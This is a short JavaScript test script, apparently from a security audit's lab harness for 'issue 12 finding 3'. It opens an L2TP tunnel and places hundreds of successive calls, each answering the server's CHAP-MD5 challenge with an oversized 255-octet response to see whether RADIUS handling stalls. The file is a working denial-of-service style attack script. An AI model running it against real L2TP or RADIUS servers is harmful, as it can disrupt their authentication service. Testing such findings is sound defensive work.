/**
 * Attack script (runs in the attacker namespace), issue 12 finding 3: one
 * L2TP tunnel, then `count` calls one after the other; in each, LCP up and
 * the server's CHAP-MD5 Challenge answered with a Response Value of `size`
 * octets (255: a CHAP-Password of 256 octets, more than RADIUS can carry) as
 * `user`. A call ends when the server answers (Success/Failure) or after
 * `waitMs` without an answer (a server stuck waiting on RADIUS), then the
 * next one starts.
 * Prints `DONE calls=N failure=F success=S unanswered=U refused=R` (refused: the
 * server turned the call down before it was up).
 */
import { runScriptedCalls } from './scripted-calls.js';

const [server = '10.201.0.1', countArg = '300', sizeArg = '255', user = 'mallory', waitArg = '1000'] = process.argv.slice(2);
const size = Number(sizeArg);
const tally = await runScriptedCalls({
  server,
  count: Number(countArg),
  hostName: 'attacker',
  answer: () => ({ value: new Uint8Array(size).fill(0x41), name: user }),
  waitMs: Number(waitArg),
  overallMs: 120_000,
});
console.log(`DONE calls=${tally.calls} failure=${tally.failure} success=${tally.success} unanswered=${tally.unanswered} refused=${tally.refused}`);
process.exit(0);
